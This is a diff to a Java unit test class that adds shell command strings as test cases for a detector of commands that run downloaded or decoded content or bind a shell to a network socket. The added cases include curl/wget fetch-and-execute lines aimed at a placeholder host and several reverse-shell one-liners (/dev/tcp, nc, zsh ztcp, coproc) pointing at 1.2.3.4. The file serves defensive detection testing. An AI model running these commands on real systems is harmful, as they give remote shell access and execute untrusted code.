@@ -98,6 +98,10 @@ class ShellTextTest {
         "echo \"base64 -d x | sh\"",
         "# base64 -d x | sh",
         "base64 -d x 2>/dev/null | tee y | wc -l",
+        "base64 -d x | xargs rm",
+        "base64 -d x | xargs sh -c 'echo \"$@\"' _",
+        "cd /tmp; base64 -d x > y; cd /; sh y",
+        "(cd /tmp; base64 -d x > y); sh y",
       })
   void decodedTextThatIsNotRunIsQuiet(String text) {
     assertThat(of(text).runsOutputOf(DECODERS)).isFalse();
@@ -119,6 +123,21 @@ class ShellTextTest {
         "bash -c \"$(curl -fsSL http://x)\"",
         "sh <(curl -s http://x)",
         "busybox wget -O - http://x | sh",
+        "curl http://x | xargs -I{} sh -c {}",
+        "curl http://x | xargs -0 bash -c",
+        "curl http://x | source /dev/stdin",
+        ". /dev/stdin <<< \"$(curl http://x)\"",
+        "cd /tmp && wget -q http://x/m && chmod +x m && ./m",
+        "cd /tmp && wget -q http://x/m; cd /; /tmp/m",
+        "cd \"$(mktemp -d)\"; curl -sO http://x/m; ./m",
+        "(cd /opt; curl -sO http://x/m); sh /opt/m",
+        "curl -o /tmp/m http://x && mv /tmp/m /usr/local/bin/m && m -d",
+        "curl -o m.gz http://x; gunzip m.gz; ./m",
+        "curl -so /tmp/a http://x; cp /tmp/a /tmp/b; bash /tmp/b",
+        "curl http://x | tee /tmp/a | sudo -u app bash -s -- -y",
+        "curl http://x > /tmp/a; python3.11 /tmp/a",
+        "curl http://x | perl5.36",
+        "fetch() { curl http://x; }; curl http://x | ruby",
       })
   void downloadThatIsRunIsFound(String text) {
     assertThat(of(text).runsOutputOf(DOWNLOADERS)).isTrue();
@@ -137,6 +156,12 @@ class ShellTextTest {
         "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 1.2.3.4 9 >/tmp/f",
         "telnet 1.2.3.4 9 | sh | telnet 1.2.3.4 10",
         "nc 1.2.3.4 9 | bash",
+        "zmodload zsh/net/tcp && ztcp 1.2.3.4 9 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY",
+        "exec {fd}<>/dev/tcp/1.2.3.4/9; bash -i <&$fd >&$fd",
+        "exec {fd}<>/dev/tcp/1.2.3.4/9; bash -i <&${fd} >&${fd}",
+        "coproc nc 1.2.3.4 9; bash <&${COPROC[0]} >&${COPROC[1]}",
+        "sh -i 5<> /dev/tcp/1.2.3.4/9 0<&5 1>&5 2>&5",
+        "bash -c 'exec bash -i &>/dev/tcp/1.2.3.4/9 <&1'",
       })
   void shellTiedToAConnectionIsFound(String text) {
     assertThat(of(text).runsOutputOf(SOCKETS)).isTrue();
@@ -150,6 +175,8 @@ class ShellTextTest {
         "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/h/80'",
         "while ! nc -z db 5432; do sleep 1; done; exec sh run.sh",
         "echo ruok | nc localhost 2181 | grep imok",
+        "exec {fd}<>/dev/tcp/db/5432; exec {fd}>&-; sh run.sh",
+        "coproc nc -z db 5432; wait; bash run.sh",
       })
   void waitingForAPortIsQuiet(String text) {
     assertThat(of(text).runsOutputOf(SOCKETS)).isFalse();
